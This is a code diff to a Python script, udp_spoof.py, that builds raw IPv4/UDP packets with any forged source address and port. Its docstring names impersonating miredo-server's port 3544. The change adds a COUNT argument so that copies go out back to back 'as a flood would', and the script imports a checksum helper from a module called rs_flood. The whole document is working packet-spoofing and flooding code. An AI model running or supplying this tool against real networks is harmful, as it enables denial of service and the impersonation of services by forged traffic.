@@ -3,7 +3,9 @@
 """Send one UDP datagram with any IPv4 source and port (a raw socket, so
 a port a daemon holds, such as miredo-server's 3544, can be spoofed).
 
-    udp_spoof.py SRC SPORT DST DPORT HEXPAYLOAD
+    udp_spoof.py SRC SPORT DST DPORT HEXPAYLOAD [COUNT]
+
+COUNT (default 1) copies go out back to back, as a flood would.
 """
 import socket
 import struct
@@ -14,6 +16,7 @@ from rs_flood import csum  # the Internet checksum, beside us
 
 def main():
     src, sport, dst, dport, hexdata = sys.argv[1:6]
+    count = int(sys.argv[6]) if len(sys.argv) > 6 else 1
     payload = bytes.fromhex(hexdata)
     s4, d4 = socket.inet_aton(src), socket.inet_aton(dst)
     ulen = 8 + len(payload)
@@ -25,7 +28,8 @@ def main():
                      socket.IPPROTO_UDP, 0, s4, d4)
     ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    sock.sendto(ip + udp, (dst, 0))
+    for _ in range(count):
+        sock.sendto(ip + udp, (dst, 0))
 
 
 if __name__ == "__main__":
